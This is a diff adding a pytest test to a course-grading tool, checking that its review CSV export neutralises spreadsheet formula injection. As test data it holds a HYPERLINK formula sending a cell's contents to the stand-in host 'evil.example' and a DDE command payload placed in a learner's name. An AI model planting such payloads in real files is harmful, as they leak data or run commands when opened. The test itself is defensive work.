@@ -107,6 +107,42 @@ def test_overrides_without_the_columns(tmp_path: Path, capsys: pytest.CaptureFix
     assert "no column learner, task, score" in capsys.readouterr().err
 
 
+def test_no_exported_cell_starts_a_formula_and_overrides_still_find_the_learner(
+    tmp_path: Path,
+) -> None:
+    import json
+
+    from pmcourse._cohort.escape import csv_cell
+
+    batch = synthetic(2)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    batch.notebooks[0].learner = "=cmd|' /C calc'!A0"
+    batch.notebooks[0].tasks[1].feedback = "@SUM(1)\n" + formula
+    # The answer column is read from the learner's notebook, as in a real export.
+    nb_path = tmp_path / "04.ipynb"
+    cell = {"cell_type": "code", "source": formula + '\ncheck("4.3", answer_4_3)'}
+    nb_path.write_text(json.dumps({"cells": [cell]}), encoding="utf-8")
+    batch.notebooks[0].path = str(nb_path)
+    results = write_results(tmp_path / "r.json", batch)
+    out = tmp_path / "review.csv"
+    assert main(["review", "export", str(results), "-o", str(out)]) == 0
+    text = out.read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r), rows
+    first = dict(zip(rows[0], rows[1], strict=True))
+    assert first["answer"] == csv_cell(formula) and first["learner"].startswith("'=")
+    # The instructor fills in a score in the exported file; the quoted name still matches.
+    filled = [rows[0], [*rows[1][:-2], "1", "-checked by hand"]]
+    buf = io.StringIO()
+    csv.writer(buf).writerows(filled)
+    review = tmp_path / "filled.csv"
+    review.write_text(buf.getvalue(), encoding="utf-8")
+    grades = _grades(results, tmp_path, "--overrides", str(review))
+    assert all(not c.startswith(("=", "+", "-", "@")) for r in grades for c in r), grades
+    by_learner = {r[0]: dict(zip(grades[0], r, strict=True)) for r in grades[1:]}
+    assert by_learner[csv_cell("=cmd|' /C calc'!A0")]["4.3"] == "1"
+
+
 def _with_one_review(learners: int = 4) -> BatchResult:
     batch = synthetic(learners)
     nb = next(n for n in batch.notebooks if n.learner == "l2" and n.tasks)
